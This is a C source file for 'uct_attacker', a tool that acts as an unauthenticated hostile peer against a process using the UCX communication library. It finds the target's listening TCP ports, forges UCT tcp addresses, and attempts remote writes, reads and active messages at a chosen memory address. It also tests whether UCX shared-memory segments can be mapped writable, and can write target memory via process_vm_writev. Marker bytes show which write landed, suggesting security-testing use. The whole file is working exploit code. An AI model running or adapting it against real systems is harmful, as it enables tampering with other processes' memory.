#define _GNU_SOURCE
/* A hostile peer below UCP: UCX's transport layer (UCT) used directly
 * against a process that holds UCX contexts, with no UCP handshake, no
 * secret and no key.
 *
 *   uct_attacker PID ADDRESS LENGTH [--cma] [--timeout-ms N] [--ops get,put,am] [--am-ids LIST]
 *
 * Finds every TCP port PID listens on (its socket inodes in /proc/PID/fd,
 * matched in /proc/PID/net/tcp and tcp6). For each, opens a UCT tcp
 * interface of its own, forges the tcp transport's device and interface
 * address from that IP:PORT, connects an endpoint, and tries on ADDRESS
 * (hex, in PID's memory) a put short, bcopy and zcopy, a get bcopy and
 * zcopy, and active messages (short and bcopy) with every id of LIST
 * (default: every id the library's contexts leave without a handler).
 * UCT's tcp transport serves a peer's put at any address (it has no get),
 * so a port of a context with tcp open takes them; any other port (a UCP
 * listener, an HTTP server) never completes the connection.
 * Then it looks for the shared-memory transports' segments of PID (UCX's
 * posix files in /dev/shm and the descriptors PID holds on them, sysv
 * segments PID created) and says whether this process can map them
 * writable, which is what a peer on those transports needs. With --cma it
 * also writes ADDRESS with process_vm_writev, which the operating system's
 * ptrace rules decide, whatever UCX opens.
 *
 * Every put writes its own byte (PUT_SHORT 0xa1, PUT_BCOPY 0xa2, PUT_ZCOPY
 * 0xa3, CMA 0xac) so that the target's canary tells which one landed.
 * Each port is met in a child process of its own. Each attempt is bounded
 * by the timeout (default 1000 ms). One line per attempt on stdout:
 *   PORTS <n> <ip:port>...
 *   TCP <ip:port> <OPERATION> <result>
 *   TCP <ip:port> ABORTED ...   (UCX tripped on this side over a peer that is not UCX's)
 *   AM <ip:port> short|bcopy sent <n> of <m> [<first failure>]
 *   POSIX|SYSV <what> <result>
 *   CMA <result>
 *   DONE
 * where result is "ok" (with the first bytes read, for a get), a UCX
 * status, "no-answer" or "not-connected". */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <uct/api/uct.h>

#define MAX_PORTS 64
#define MAX_INODES 4096

static double timeout_s = 1.0;
/* The phases to run (--ops get,put,am; default all) and the active
 * message ids to send: by default those to which UCP 1.13 gives a context
 * with active messages only (the library's) no handler: wireup (1), the
 * rendezvous ones (9-12, 16) and UCP's own active messages (23-26) have
 * one, and a crafted message on them trips UCP's assertions instead of
 * reaching its stub. */
static bool do_get = true, do_put = true, do_am = true;
static bool am_ids[UCT_AM_ID_MAX];
static const char *default_am_ids = "0,2-8,13-15,17-22,27-31";

static void parse_am_ids(const char *list)
{
    memset(am_ids, 0, sizeof am_ids);
    for (const char *s = list; *s;) {
        char *end;
        unsigned long lo = strtoul(s, &end, 10), hi = lo;
        if (*end == '-')
            hi = strtoul(end + 1, &end, 10);
        for (unsigned long i = lo; i <= hi && i < UCT_AM_ID_MAX; i++)
            am_ids[i] = true;
        s = *end == ',' ? end + 1 : end + strlen(end);
    }
}

struct port {
    struct sockaddr_storage ss; /* the address to dial: an unspecified one becomes loopback */
    char text[INET6_ADDRSTRLEN + 8];
};

struct tcp {
    uct_component_h component;
    uct_md_h md;
    uct_worker_h worker;
    ucs_async_context_t *async;
    uct_iface_h iface;
    uct_ep_h ep;
    uct_iface_attr_t attr;
    bool failed;
};

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* ---- the target's listening ports */

static size_t socket_inodes(int pid, unsigned long *inodes, size_t cap)
{
    char path[64], link[64];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    size_t n = 0;
    if (!d)
        return 0;
    for (struct dirent *e; (e = readdir(d)) && n < cap;) {
        char fd[320];
        snprintf(fd, sizeof fd, "%s/%s", path, e->d_name);
        ssize_t len = readlink(fd, link, sizeof link - 1);
        if (len <= 0)
            continue;
        link[len] = '\0';
        if (sscanf(link, "socket:[%lu]", &inodes[n]) == 1)
            n++;
    }
    closedir(d);
    return n;
}

static bool has_inode(const unsigned long *inodes, size_t n, unsigned long inode)
{
    for (size_t i = 0; i < n; i++)
        if (inodes[i] == inode)
            return true;
    return false;
}

/* One line of /proc/net/tcp{,6} in LISTEN state (0A) into p. */
static bool parse_listener(const char *line, bool v6, const unsigned long *inodes, size_t n, struct port *p)
{
    char local[64];
    unsigned port, state;
    unsigned long inode;
    if (sscanf(line, " %*d: %63[0-9A-Fa-f]:%x %*s %x %*s %*s %*s %*s %*s %lu", local, &port, &state, &inode) != 4 ||
        state != 0x0A || !has_inode(inodes, n, inode))
        return false;
    memset(p, 0, sizeof *p);
    if (!v6) {
        struct sockaddr_in *sin = (struct sockaddr_in *)&p->ss;
        sin->sin_family = AF_INET;
        sin->sin_port = htons((uint16_t)port);
        sin->sin_addr.s_addr = (in_addr_t)strtoul(local, NULL, 16); /* the kernel prints it in host order */
        if (sin->sin_addr.s_addr == INADDR_ANY)
            sin->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        inet_ntop(AF_INET, &sin->sin_addr, p->text, sizeof p->text);
    } else {
        struct sockaddr_in6 *sin6 = (struct sockaddr_in6 *)&p->ss;
        sin6->sin6_family = AF_INET6;
        sin6->sin6_port = htons((uint16_t)port);
        for (int i = 0; i < 4; i++) {
            char word[9] = {0};
            memcpy(word, local + 8 * i, 8);
            uint32_t w = (uint32_t)strtoul(word, NULL, 16);
            memcpy(&sin6->sin6_addr.s6_addr[4 * i], &w, 4);
        }
        if (IN6_IS_ADDR_UNSPECIFIED(&sin6->sin6_addr))
            sin6->sin6_addr = in6addr_loopback;
        inet_ntop(AF_INET6, &sin6->sin6_addr, p->text, sizeof p->text);
    }
    snprintf(p->text + strlen(p->text), sizeof p->text - strlen(p->text), ":%u", port);
    return true;
}

static size_t listening_ports(int pid, struct port *ports, size_t cap)
{
    static unsigned long inodes[MAX_INODES];
    size_t ninodes = socket_inodes(pid, inodes, MAX_INODES), n = 0;
    for (int v6 = 0; v6 < 2; v6++) {
        char path[64], line[512];
        snprintf(path, sizeof path, "/proc/%d/net/tcp%s", pid, v6 ? "6" : "");
        FILE *f = fopen(path, "r");
        if (!f)
            continue;
        while (n < cap && fgets(line, sizeof line, f))
            if (parse_listener(line, v6, inodes, ninodes, &ports[n]))
                n++;
        fclose(f);
    }
    return n;
}

/* ---- UCT tcp */

static ucs_status_t on_ep_error(void *arg, uct_ep_h ep, ucs_status_t status)
{
    ((struct tcp *)arg)->failed = true;
    return UCS_OK;
}

static ucs_status_t tcp_open_md(struct tcp *t)
{
    uct_component_h *components;
    unsigned count;
    ucs_status_t st = uct_query_components(&components, &count);
    if (st != UCS_OK)
        return st;
    st = UCS_ERR_NO_DEVICE;
    for (unsigned i = 0; i < count && st == UCS_ERR_NO_DEVICE; i++) {
        uct_component_attr_t attr = {.field_mask = UCT_COMPONENT_ATTR_FIELD_NAME};
        if (uct_component_query(components[i], &attr) != UCS_OK || strcmp(attr.name, "tcp") != 0)
            continue;
        uct_md_config_t *config;
        if ((st = uct_md_config_read(components[i], NULL, NULL, &config)) != UCS_OK)
            break;
        st = uct_md_open(components[i], "tcp", config, &t->md);
        uct_config_release(config);
        t->component = components[i];
    }
    uct_release_component_list(components);
    return st;
}

/* An interface of this process on lo for a loopback target, else on the
 * first other device: where a peer of the target's network would sit. */
static const char *pick_device(const struct port *p, char *dev, size_t cap, uct_md_h md)
{
    bool loop = p->ss.ss_family == AF_INET
                    ? ntohl(((const struct sockaddr_in *)&p->ss)->sin_addr.s_addr) >> 24 == 127
                    : IN6_IS_ADDR_LOOPBACK(&((const struct sockaddr_in6 *)&p->ss)->sin6_addr);
    uct_tl_resource_desc_t *res;
    unsigned n;
    dev[0] = '\0';
    if (uct_md_query_tl_resources(md, &res, &n) != UCS_OK)
        return dev;
    for (unsigned i = 0; i < n && !dev[0]; i++)
        if ((strcmp(res[i].dev_name, "lo") == 0) == loop)
            snprintf(dev, cap, "%s", res[i].dev_name);
    if (!dev[0] && n)
        snprintf(dev, cap, "%s", res[0].dev_name);
    uct_release_tl_resource_list(res);
    return dev;
}

static ucs_status_t tcp_open_iface(struct tcp *t, const char *dev)
{
    uct_iface_config_t *config;
    ucs_status_t st = uct_md_iface_config_read(t->md, "tcp", NULL, NULL, &config);
    if (st != UCS_OK)
        return st;
    uct_iface_params_t p = {
        .field_mask = UCT_IFACE_PARAM_FIELD_OPEN_MODE | UCT_IFACE_PARAM_FIELD_DEVICE |
                      UCT_IFACE_PARAM_FIELD_ERR_HANDLER | UCT_IFACE_PARAM_FIELD_ERR_HANDLER_ARG |
                      UCT_IFACE_PARAM_FIELD_ERR_HANDLER_FLAGS,
        .open_mode = UCT_IFACE_OPEN_MODE_DEVICE,
        .mode.device = {.tl_name = "tcp", .dev_name = dev},
        .err_handler = on_ep_error,
        .err_handler_arg = t,
        .err_handler_flags = 0,
    };
    st = uct_iface_open(t->md, t->worker, &p, config, &t->iface);
    uct_config_release(config);
    if (st != UCS_OK)
        return st;
    uct_iface_progress_enable(t->iface, UCT_PROGRESS_SEND | UCT_PROGRESS_RECV);
    return uct_iface_query(t->iface, &t->attr);
}

/* The tcp transport's addresses as it packs them for a peer: the device
 * address is one byte of flags (0: not the loopback form, which would carry
 * a host id instead of the IP), one byte of address family, then the raw
 * in_addr or in6_addr; the interface address is the listening port in
 * network order. */
static ucs_status_t tcp_connect(struct tcp *t, const struct port *p)
{
    unsigned char dev[2 + sizeof(struct in6_addr)] = {0, (unsigned char)p->ss.ss_family};
    uint16_t port;
    if (p->ss.ss_family == AF_INET) {
        memcpy(dev + 2, &((const struct sockaddr_in *)&p->ss)->sin_addr, sizeof(struct in_addr));
        port = ((const struct sockaddr_in *)&p->ss)->sin_port;
    } else {
        memcpy(dev + 2, &((const struct sockaddr_in6 *)&p->ss)->sin6_addr, sizeof(struct in6_addr));
        port = ((const struct sockaddr_in6 *)&p->ss)->sin6_port;
    }
    uct_ep_params_t ep = {
        .field_mask = UCT_EP_PARAM_FIELD_IFACE | UCT_EP_PARAM_FIELD_DEV_ADDR | UCT_EP_PARAM_FIELD_IFACE_ADDR,
        .iface = t->iface,
        .dev_addr = (const uct_device_addr_t *)dev,
        .iface_addr = (const uct_iface_addr_t *)&port,
    };
    return uct_ep_create(&ep, &t->ep);
}

/* Retry an operation the transport has no room for yet, within the timeout. */
#define RETRY(t, expr)                                                                                               \
    ({                                                                                                               \
        ucs_status_t s_;                                                                                             \
        double end_ = now() + timeout_s;                                                                             \
        while ((s_ = (expr)) == UCS_ERR_NO_RESOURCE && !(t)->failed && now() < end_)                                 \
            uct_worker_progress((t)->worker);                                                                        \
        s_;                                                                                                          \
    })

/* Whether the endpoint can send within the timeout: an empty flush is
 * refused for want of resources until the transport's own handshake with
 * the peer is over. */
static bool tcp_wait_connected(struct tcp *t)
{
    return RETRY(t, uct_ep_flush(t->ep, 0, NULL)) == UCS_OK && !t->failed;
}

struct done {
    uct_completion_t comp;
    bool over;
};

static void on_done(uct_completion_t *self)
{
    ((struct done *)self)->over = true;
}

/* A completion, and the buffers of the operation it tracks, are never
 * freed: an operation the peer never answered is completed (cancelled)
 * when its endpoint goes, which may be after its caller returned. The
 * program is short-lived. */
static struct done *done_new(void)
{
    struct done *d = calloc(1, sizeof *d);
    if (!d)
        abort();
    d->comp = (uct_completion_t){.func = on_done, .count = 1, .status = UCS_OK};
    return d;
}

/* A status of an operation that may complete later through d. */
static const char *finish(struct tcp *t, ucs_status_t st, struct done *d)
{
    if (st == UCS_INPROGRESS && !d)
        return "in-progress";
    if (st == UCS_INPROGRESS) {
        for (double end = now() + timeout_s; !d->over && !t->failed && now() < end;)
            uct_worker_progress(t->worker);
        if (!d->over)
            return t->failed ? "endpoint-failed" : "no-answer";
        st = d->comp.status;
    }
    if (st == UCS_OK) {
        /* Delivered locally is not done remotely: a flush waits for the
         * target's acknowledgement of every put. */
        struct done *f = done_new();
        ucs_status_t fs = uct_ep_flush(t->ep, 0, &f->comp);
        for (double end = now() + timeout_s; fs == UCS_INPROGRESS && !f->over && !t->failed && now() < end;)
            uct_worker_progress(t->worker);
        if (fs == UCS_INPROGRESS && !f->over)
            return "sent, no-acknowledgement";
    }
    return st == UCS_OK ? "ok" : ucs_status_string(st);
}

struct bytes {
    unsigned char *p;
    size_t n;
};

static size_t pack(void *dest, void *arg)
{
    struct bytes *b = arg;
    memcpy(dest, b->p, b->n);
    return b->n;
}

static void unpack(void *arg, const void *data, size_t length)
{
    struct bytes *b = arg;
    memcpy(b->p, data, length < b->n ? length : b->n);
}

static ucs_status_t status_of(ssize_t n)
{
    return n >= 0 ? UCS_OK : (ucs_status_t)n;
}

static void report(const struct port *p, const char *op, const char *result, const unsigned char *got, size_t n)
{
    printf("TCP %s %s %s", p->text, op, result);
    if (got && strcmp(result, "ok") == 0)
        for (size_t i = 0; i < n && i < 16; i++)
            printf("%s%02x", i ? "" : " ", got[i]);
    printf("\n");
    fflush(stdout);
}

/* An operation the interface does not claim has no function behind it
 * (UCT leaves the slot empty): it is reported, never called. */
static bool can(const struct tcp *t, const struct port *p, uint64_t flag, const char *op)
{
    if (t->attr.cap.flags & flag)
        return true;
    report(p, op, "unsupported", NULL, 0);
    return false;
}

static void try_puts(struct tcp *t, const struct port *p, uint64_t addr, size_t len)
{
    unsigned char *buf = malloc(len);
    size_t shortlen = len < t->attr.cap.put.max_short ? len : t->attr.cap.put.max_short;
    size_t blen = len < t->attr.cap.put.max_bcopy ? len : t->attr.cap.put.max_bcopy;
    memset(buf, 0xa1, len);
    if (can(t, p, UCT_IFACE_FLAG_PUT_SHORT, "PUT_SHORT"))
        report(p, "PUT_SHORT", finish(t, RETRY(t, uct_ep_put_short(t->ep, buf, (unsigned)shortlen, addr, 0)), NULL),
           NULL, 0);
    memset(buf, 0xa2, len);
    struct bytes b = {buf, blen};
    if (can(t, p, UCT_IFACE_FLAG_PUT_BCOPY, "PUT_BCOPY"))
        report(p, "PUT_BCOPY", finish(t, RETRY(t, status_of(uct_ep_put_bcopy(t->ep, pack, &b, addr, 0))), NULL), NULL,
           0);
    memset(buf, 0xa3, len);
    struct done *d = done_new();
    uct_iov_t iov = {.buffer = buf, .length = len, .memh = UCT_MEM_HANDLE_NULL, .count = 1};
    if (can(t, p, UCT_IFACE_FLAG_PUT_ZCOPY, "PUT_ZCOPY"))
        report(p, "PUT_ZCOPY", finish(t, RETRY(t, uct_ep_put_zcopy(t->ep, &iov, 1, addr, 0, &d->comp)), d), NULL, 0);
}

static void try_gets(struct tcp *t, const struct port *p, uint64_t addr, size_t len)
{
    unsigned char *buf = calloc(1, len);
    size_t blen = len < t->attr.cap.get.max_bcopy ? len : t->attr.cap.get.max_bcopy;
    struct bytes *b = malloc(sizeof *b);
    *b = (struct bytes){buf, blen};
    struct done *d = done_new();
    if (can(t, p, UCT_IFACE_FLAG_GET_BCOPY, "GET_BCOPY"))
        report(p, "GET_BCOPY", finish(t, RETRY(t, uct_ep_get_bcopy(t->ep, unpack, b, blen, addr, 0, &d->comp)), d), buf,
           blen);
    unsigned char *zbuf = calloc(1, len);
    d = done_new();
    uct_iov_t iov = {.buffer = zbuf, .length = len, .memh = UCT_MEM_HANDLE_NULL, .count = 1};
    if (can(t, p, UCT_IFACE_FLAG_GET_ZCOPY, "GET_ZCOPY"))
        report(p, "GET_ZCOPY", finish(t, RETRY(t, uct_ep_get_zcopy(t->ep, &iov, 1, addr, 0, &d->comp)), d), zbuf, len);
}

/* Active messages on every id: the target's context has handlers for a
 * few; every other id reaches UCX's stub, which logs what it dropped. */
static void try_ams(struct tcp *t, const struct port *p)
{
    unsigned char payload[64];
    memset(payload, 0xa5, sizeof payload);
    struct bytes b = {payload, sizeof payload};
    for (int bcopy = 0; bcopy < 2; bcopy++) {
        if (!(t->attr.cap.flags & (bcopy ? UCT_IFACE_FLAG_AM_BCOPY : UCT_IFACE_FLAG_AM_SHORT))) {
            printf("AM %s %s unsupported\n", p->text, bcopy ? "bcopy" : "short");
            continue;
        }
        unsigned sent = 0, tried = 0;
        ucs_status_t first = UCS_OK;
        for (uint8_t id = 0; id < UCT_AM_ID_MAX; id++) {
            if (!am_ids[id])
                continue;
            tried++;
            ucs_status_t st = bcopy ? RETRY(t, status_of(uct_ep_am_bcopy(t->ep, id, pack, &b, 0)))
                                    : RETRY(t, uct_ep_am_short(t->ep, id, 0x5a5a5a5a5a5a5a5aull, payload, 16));
            if (st == UCS_OK)
                sent++;
            else if (first == UCS_OK)
                first = st;
        }
        printf("AM %s %s sent %u of %u%s%s\n", p->text, bcopy ? "bcopy" : "short", sent, tried,
               first == UCS_OK ? "" : " ", first == UCS_OK ? "" : ucs_status_string(first));
        fflush(stdout);
    }
    (void)finish(t, UCS_OK, NULL); /* flush: the messages leave before the endpoint goes */
}

static void tcp_close(struct tcp *t)
{
    if (t->ep)
        uct_ep_destroy(t->ep);
    if (t->iface)
        uct_iface_close(t->iface);
    t->ep = NULL;
    t->iface = NULL;
    t->failed = false;
}

static void attack_port(struct tcp *t, const struct port *p, uint64_t addr, size_t len)
{
    char dev[64];
    ucs_status_t st = tcp_open_iface(t, pick_device(p, dev, sizeof dev, t->md));
    if (st == UCS_OK)
        st = tcp_connect(t, p);
    if (st != UCS_OK) {
        report(p, "CONNECT", ucs_status_string(st), NULL, 0);
        tcp_close(t);
        return;
    }
    if (!tcp_wait_connected(t)) {
        report(p, "CONNECT", t->failed ? "endpoint-failed" : "not-connected", NULL, 0);
        tcp_close(t);
        return;
    }
    report(p, "CONNECT", "ok", NULL, 0);
    if (do_get)
        try_gets(t, p, addr, len);
    if (do_put)
        try_puts(t, p, addr, len);
    if (do_am)
        try_ams(t, p);
    tcp_close(t);
}

/* One port, in a process of its own with UCX set up there: a port that is
 * not a UCX tcp interface (HTTP/2's first frame, say) can trip UCX's own
 * assertions on this side, which must not end the attack on the others. */
static void attack_port_alone(const struct port *p, uint64_t addr, size_t len)
{
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        struct tcp t = {0};
        ucs_status_t st = tcp_open_md(&t);
        if (st == UCS_OK)
            st = ucs_async_context_create(UCS_ASYNC_MODE_THREAD_SPINLOCK, &t.async);
        if (st == UCS_OK)
            st = uct_worker_create(t.async, UCS_THREAD_MODE_SINGLE, &t.worker);
        if (st != UCS_OK)
            report(p, "SETUP", ucs_status_string(st), NULL, 0);
        else
            attack_port(&t, p, addr, len);
        fflush(stdout);
        _exit(0); /* UCX's teardown is not what is tested */
    }
    int status = 0;
    if (child < 0 || waitpid(child, &status, 0) != child)
        report(p, "FORK", strerror(errno), NULL, 0);
    else if (WIFSIGNALED(status))
        printf("TCP %s ABORTED by signal %d on this side (the peer's bytes are not the tcp transport's)\n", p->text,
               WTERMSIG(status));
    fflush(stdout);
}

static void attack_tcp(int pid, uint64_t addr, size_t len)
{
    static struct port ports[MAX_PORTS];
    size_t n = listening_ports(pid, ports, MAX_PORTS);
    printf("PORTS %zu", n);
    for (size_t i = 0; i < n; i++)
        printf(" %s", ports[i].text);
    printf("\n");
    for (size_t i = 0; i < n; i++)
        attack_port_alone(&ports[i], addr, len);
}

/* ---- the shared-memory transports */

static const char *map_writable(int fd)
{
    static char result[96];
    struct stat st;
    if (fstat(fd, &st) != 0 || st.st_size == 0)
        return "empty";
    void *p = mmap(NULL, (size_t)st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (p == MAP_FAILED) {
        snprintf(result, sizeof result, "mmap: %s", strerror(errno));
        return result;
    }
    munmap(p, (size_t)st.st_size);
    snprintf(result, sizeof result, "writable %lld bytes", (long long)st.st_size);
    return result;
}

/* UCX's posix transport keeps its segments in /dev/shm (ucx_shm_posix_*)
 * and hands peers a way to them through /proc/PID/fd: every descriptor
 * of PID on such a segment, and every such file, is tried. */
static void attack_posix(int pid)
{
    char path[64], link[512], fdpath[320];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    unsigned found = 0;
    for (struct dirent *e; d && (e = readdir(d));) {
        snprintf(fdpath, sizeof fdpath, "%s/%s", path, e->d_name);
        ssize_t len = readlink(fdpath, link, sizeof link - 1);
        if (len <= 0)
            continue;
        link[len] = '\0';
        if (!strstr(link, "/dev/shm/ucx") && !strstr(link, "memfd:ucx") && !strstr(link, "ucx_shm"))
            continue;
        int fd = open(fdpath, O_RDWR);
        printf("POSIX %s (%s) %s\n", fdpath, link, fd < 0 ? strerror(errno) : map_writable(fd));
        if (fd >= 0)
            close(fd);
        found++;
    }
    if (d)
        closedir(d);
    if (!found)
        printf("POSIX none\n");
    fflush(stdout);
}

/* sysv segments PID created (UCX's sysv transport), from /proc/sysvipc/shm. */
static void attack_sysv(int pid)
{
    FILE *f = fopen("/proc/sysvipc/shm", "r");
    char line[512];
    unsigned found = 0;
    while (f && fgets(line, sizeof line, f)) {
        int key, shmid, cpid;
        unsigned long size;
        if (sscanf(line, "%d %d %*o %lu %d", &key, &shmid, &size, &cpid) != 4 || cpid != pid)
            continue;
        void *p = shmat(shmid, NULL, 0);
        if (p == (void *)-1) {
            printf("SYSV shmid %d (%lu bytes) shmat: %s\n", shmid, size, strerror(errno));
        } else {
            printf("SYSV shmid %d writable %lu bytes\n", shmid, size);
            shmdt(p);
        }
        found++;
    }
    if (f)
        fclose(f);
    if (!found)
        printf("SYSV none\n");
    fflush(stdout);
}

static void attack_cma(int pid, uint64_t addr, size_t len)
{
    unsigned char *buf = malloc(len);
    memset(buf, 0xac, len);
    struct iovec local = {buf, len}, remote = {(void *)(uintptr_t)addr, len};
    ssize_t n = process_vm_writev(pid, &local, 1, &remote, 1, 0);
    if (n < 0)
        printf("CMA process_vm_writev %s\n", strerror(errno));
    else
        printf("CMA process_vm_writev ok %zd bytes\n", n);
    fflush(stdout);
    free(buf);
}

int main(int argc, char **argv)
{
    if (argc < 4) {
        fprintf(stderr, "usage: %s PID ADDRESS LENGTH [--cma] [--timeout-ms N] [--ops get,put,am] [--am-ids LIST]\n",
                argv[0]);
        return 2;
    }
    int pid = atoi(argv[1]);
    uint64_t addr = strtoull(argv[2], NULL, 16);
    size_t len = strtoull(argv[3], NULL, 0);
    bool cma = false;
    const char *am_ids_list = default_am_ids;
    for (int i = 4; i < argc; i++) {
        if (strcmp(argv[i], "--cma") == 0)
            cma = true;
        else if (strcmp(argv[i], "--timeout-ms") == 0 && i + 1 < argc)
            timeout_s = atof(argv[++i]) / 1000.0;
        else if (strcmp(argv[i], "--ops") == 0 && i + 1 < argc)
            i++, do_get = strstr(argv[i], "get"), do_put = strstr(argv[i], "put"), do_am = strstr(argv[i], "am");
        else if (strcmp(argv[i], "--am-ids") == 0 && i + 1 < argc)
            am_ids_list = argv[++i];
    }
    if (pid <= 0 || len == 0)
        return 2;
    parse_am_ids(am_ids_list);
    attack_tcp(pid, addr, len);
    attack_posix(pid);
    attack_sysv(pid);
    if (cma)
        attack_cma(pid, addr, len);
    printf("DONE\n");
    return 0;
}
